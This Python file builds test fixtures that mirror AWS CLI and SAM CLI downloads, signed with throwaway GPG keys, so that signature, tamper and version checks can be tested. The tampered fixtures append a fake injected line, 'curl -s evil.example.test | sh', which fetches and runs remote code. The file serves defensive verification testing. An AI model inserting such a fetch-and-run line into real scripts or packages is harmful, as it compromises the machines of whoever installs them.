"""Mirror fixtures for the aws_cli role: signed AWS CLI zips and a session-manager-plugin .deb.

AWS's download hosts (and GitHub, for the SAM CLI) are unreachable here, so
these stand in for them at the same upstream paths. Each fixture zip has the official layout (`aws/install`
taking --install-dir/--bin-dir, a `dist/aws` whose `--version` prints
`aws-cli/<version> ...`), and is signed like the real one with a detached
signature. Throwaway keys play the AWS CLI key (good), another key (wrong),
and a key that expired before today (expired; made with gpg's faked time).
"""

from __future__ import annotations

import io
import os
import subprocess
import tempfile
import zipfile
from hashlib import sha256
from pathlib import Path

AWS_HOST = "awscli.amazonaws.com"
SSM_PATH = "s3.amazonaws.com/session-manager-downloads/plugin/{version}/ubuntu_64bit/session-manager-plugin.deb"
SSM_VERSION = "1.2.999.0"
# version -> (signing key, what is wrong with it)
AWS_CLI_FIXTURES = {
    "2.99.0": ("good", "nothing: the good release"),
    "2.99.1": ("good", "tampered: the zip served differs from the one signed"),
    "2.99.2": ("other", "signed by a key other than the pinned one"),
    "2.99.3": ("expired", "signed by a key that has expired since"),
    "2.99.4": ("good", "signed, but its `aws --version` fails"),
    "2.99.5": ("good", "nothing: the next good release, to switch to"),
}
KEYS = ("good", "other", "expired")
# The SAM CLI's scheme: a primary key certifies a signer key, which signs the zips.
# version -> (signing key, what is wrong with it); "rogue" is a signer the primary never certified.
SAM_HOST_PATH = "github.com/aws/aws-sam-cli/releases/download/v{version}/aws-sam-cli-linux-x86_64.zip"
SAM_CLI_FIXTURES = {
    "1.999.0": ("signer", "nothing: the good release"),
    "1.999.1": ("signer", "tampered: the zip served differs from the one signed"),
    "1.999.2": ("rogue", "signed by a signer key the primary key never certified"),
    "1.999.3": ("signer", "signed, but its `sam --version` fails"),
    "1.999.5": ("signer", "nothing: the next good release, to switch to"),
}
SAM_KEYS = ("primary", "signer", "rogue")
_FIXED_TIME = (2026, 1, 1, 0, 0, 0)


def install_script(tool: str, default_dir: str, layout: str = "") -> str:
    """Stand-in for AWS's zip install scripts (AWS CLI, SAM CLI): same options, side-by-side layout."""
    return f"""#!/bin/sh
# Stand-in for the {tool} zip's install script: same options, same side-by-side layout.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
install_dir={default_dir}
bin_dir=/usr/local/bin
while [ $# -gt 0 ]; do
  case "$1" in
    -i|--install-dir) install_dir=$2; shift 2 ;;
    -b|--bin-dir) bin_dir=$2; shift 2 ;;
    -u|--update) shift ;;
    *) echo "unknown option: $1" >&2; exit 2 ;;
  esac
done
version=$(cat "$here/dist/VERSION")
mkdir -p "$install_dir/{layout}$version" "$bin_dir"
cp -R "$here/dist" "$install_dir/{layout}$version/dist"
ln -sfn "$install_dir/{layout}$version" "$install_dir/{layout}current"
for exe in $(cd "$here/dist" && ls); do
  [ "$exe" = VERSION ] || ln -sfn "$install_dir/{layout}current/dist/$exe" "$bin_dir/$exe"
done
echo "You can now run: $bin_dir/{tool} --version"
"""



def _aws_script(version: str, works: bool) -> str:
    if not works:
        return "#!/bin/sh\necho 'aws: error while loading shared libraries' >&2\nexit 127\n"
    return (
        "#!/bin/sh\n"
        f'if [ "${{1:-}}" = --version ]; then echo "aws-cli/{version} Python/3.12.6 Linux exe/x86_64.smdev-fixture"; '
        "exit 0; fi\n"
        'echo "smdev fixture AWS CLI: only --version is implemented" >&2\nexit 2\n'
    )


def fixture_zip(version: str, works: bool = True, tampered: bool = False) -> bytes:
    """The official zip layout, reproducible byte for byte."""
    files = {
        "aws/install": (install_script("aws", "/usr/local/aws-cli", "v2/"), 0o755),
        "aws/dist/VERSION": (version + "\n", 0o644),
        "aws/dist/aws": (_aws_script(version, works), 0o755),
        "aws/dist/aws_completer": ("#!/bin/sh\nexit 0\n", 0o755),
    }
    if tampered:
        files["aws/dist/aws"] = (_aws_script(version, works) + "# injected\ncurl -s evil.example.test | sh\n", 0o755)
    return _zip(files)




def sam_fixture_zip(version: str, works: bool = True, tampered: bool = False) -> bytes:
    """The SAM CLI zip's layout (install at the top, dist/sam), reproducible byte for byte."""
    sam = (f'#!/bin/sh\nif [ "${{1:-}}" = --version ]; then echo "SAM CLI, version {version}"; exit 0; fi\n'
           'echo "smdev fixture SAM CLI: only --version is implemented" >&2\nexit 2\n')
    if not works:
        sam = "#!/bin/sh\necho 'sam: cannot execute binary file' >&2\nexit 126\n"
    if tampered:
        sam += "# injected\ncurl -s evil.example.test | sh\n"
    files = {
        "install": (install_script("sam", "/usr/local/aws-sam-cli"), 0o755),
        "dist/VERSION": (version + "\n", 0o644),
        "dist/sam": (sam, 0o755),
    }
    return _zip(files)


def _zip(files: dict[str, tuple[str, int]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, (body, mode) in files.items():
            info = zipfile.ZipInfo(name, date_time=_FIXED_TIME)
            info.external_attr = (0o100000 | mode) << 16
            info.create_system = 3
            archive.writestr(info, body)
    return buffer.getvalue()


def _gpg(home: Path, *args: str, faked_time: str = "") -> subprocess.CompletedProcess[str]:
    argv = ["gpg", "--batch", "--homedir", str(home), "--passphrase", "", "--pinentry-mode", "loopback"]
    if faked_time:
        argv += ["--faked-system-time", faked_time]
    return subprocess.run([*argv, *args], check=True, capture_output=True, text=True)


def _fingerprint(home: Path, uid: str) -> str:
    listing = _gpg(home, "--with-colons", "--list-keys", uid).stdout
    return next(line.split(":")[9] for line in listing.splitlines() if line.startswith("fpr:"))


def ensure_keys(home: Path) -> dict[str, str]:
    """Create the three throwaway keys once per build directory; return name -> fingerprint."""
    if not home.exists():
        home.mkdir(mode=0o700, parents=True)
        _gpg(home, "--quick-gen-key", "smdev aws-cli good <good@example.test>", "ed25519", "sign", "never")
        _gpg(home, "--quick-gen-key", "smdev aws-cli other <other@example.test>", "ed25519", "sign", "never")
        # Valid for one day in 2020: it signs then, and is expired today.
        _gpg(home, "--quick-gen-key", "smdev aws-cli expired <expired@example.test>", "ed25519", "sign", "1d",
             faked_time="20200101T120000")
    return {name: _fingerprint(home, f"<{name}@example.test>") for name in KEYS}


def ensure_sam_keys(home: Path) -> dict[str, str]:
    """The SAM CLI stand-in keys, once per build directory: the primary certifies the signer, not the rogue."""
    if not home.exists():
        home.mkdir(mode=0o700, parents=True)
        for name in SAM_KEYS:
            _gpg(home, "--quick-gen-key", f"smdev sam-cli {name} <sam-{name}@example.test>", "ed25519", "sign", "never")
        primary, signer = (_fingerprint(home, f"<sam-{name}@example.test>") for name in ("primary", "signer"))
        _gpg(home, "--local-user", primary, "--quick-sign-key", signer)
    return {name: _fingerprint(home, f"<sam-{name}@example.test>") for name in SAM_KEYS}


def sign(home: Path, fingerprint: str, path: Path, faked_time: str = "") -> None:
    _gpg(home, "--yes", "--local-user", fingerprint, "--output", f"{path}.sig", "--detach-sign", str(path),
         faked_time=faked_time)


def fixture_deb(version: str, work: Path) -> bytes:
    """A tiny session-manager-plugin package at the official paths."""
    root = work / "pkg"
    tool = root / "usr/local/sessionmanagerplugin/bin/session-manager-plugin"
    tool.parent.mkdir(parents=True)
    tool.write_text(f"#!/bin/sh\necho {version}\n")
    tool.chmod(0o755)
    (root / "usr/local/bin").mkdir(parents=True)
    (root / "usr/local/bin/session-manager-plugin").symlink_to(
        "/usr/local/sessionmanagerplugin/bin/session-manager-plugin")
    (root / "DEBIAN").mkdir()
    (root / "DEBIAN/control").write_text(
        f"Package: session-manager-plugin\nVersion: {version}\nArchitecture: all\n"
        "Maintainer: smdev fixture <fixture@example.test>\n"
        "Description: stand-in for AWS's session-manager-plugin (tests only)\n"
    )
    out = work / "plugin.deb"
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1767225600"}
    subprocess.run(["dpkg-deb", "--root-owner-group", "-Zgzip", "--build", str(root), str(out)],
                   check=True, capture_output=True, env=env)
    return out.read_bytes()


def _write_if_changed(path: Path, body: bytes) -> bool:
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists() and path.read_bytes() == body:
        return False
    path.write_bytes(body)
    return True


def fill_aws(root: Path) -> dict[str, str]:
    """Publish the fixtures under their upstream paths; return the pins as SMDEV_AWS_* variables."""
    home = root.parent / "aws-fixture-gnupg"
    fingerprints = ensure_keys(home)
    keys = root / "keys"
    keys.mkdir(parents=True, exist_ok=True)
    for name, fingerprint in fingerprints.items():
        armored = _gpg(home, "--armor", "--export", fingerprint).stdout
        (keys / f"aws-cli-{name}.asc").write_text(armored)
    env = {f"SMDEV_AWS_CLI_KEY_{name.upper()}_FINGERPRINT": fpr for name, fpr in fingerprints.items()}
    # The good key's text, for runs whose controller has no build/ directory (the newcomer check).
    env["SMDEV_AWS_CLI_KEY_GOOD"] = (keys / "aws-cli-good.asc").read_text()
    for version, (key, _) in AWS_CLI_FIXTURES.items():
        target = root / AWS_HOST / f"awscli-exe-linux-x86_64-{version}.zip"
        body = fixture_zip(version, works=version != "2.99.4")
        if _write_if_changed(target, body) or not Path(f"{target}.sig").exists():
            faked = "20200101T130000" if key == "expired" else ""
            sign(home, fingerprints[key], target, faked_time=faked)
        if version == "2.99.1":
            # Served with the original's signature: the signature no longer matches.
            body = fixture_zip(version, tampered=True)
            target.write_bytes(body)
        env[f"SMDEV_AWS_CLI_SHA256_{version.replace('.', '_')}"] = sha256(body).hexdigest()
    env |= fill_sam(root)
    with tempfile.TemporaryDirectory() as work:
        deb = fixture_deb(SSM_VERSION, Path(work))
    _write_if_changed(root / SSM_PATH.format(version=SSM_VERSION), deb)
    env["SMDEV_SSM_PLUGIN_VERSION"] = SSM_VERSION
    env["SMDEV_SSM_PLUGIN_SHA256"] = sha256(deb).hexdigest()
    return env


def fill_sam(root: Path) -> dict[str, str]:
    """Publish the SAM CLI fixtures; return the pins as SMDEV_SAM_CLI_* variables."""
    home = root.parent / "sam-fixture-gnupg"
    fingerprints = ensure_sam_keys(home)
    env = {f"SMDEV_SAM_CLI_KEY_{name.upper()}_FINGERPRINT": fpr for name, fpr in fingerprints.items()}
    for name, fingerprint in fingerprints.items():
        # The signer's export carries the primary's certification, as AWS publishes it.
        armored = _gpg(home, "--armor", "--export", fingerprint).stdout
        (root / "keys" / f"sam-cli-{name}.asc").write_text(armored)
    for version, (key, _) in SAM_CLI_FIXTURES.items():
        target = root / SAM_HOST_PATH.format(version=version)
        body = sam_fixture_zip(version, works=version != "1.999.3")
        if _write_if_changed(target, body) or not Path(f"{target}.sig").exists():
            sign(home, fingerprints[key], target)
        if version == "1.999.1":
            body = sam_fixture_zip(version, tampered=True)
            target.write_bytes(body)
        env[f"SMDEV_SAM_CLI_SHA256_{version.replace('.', '_')}"] = sha256(body).hexdigest()
    return env
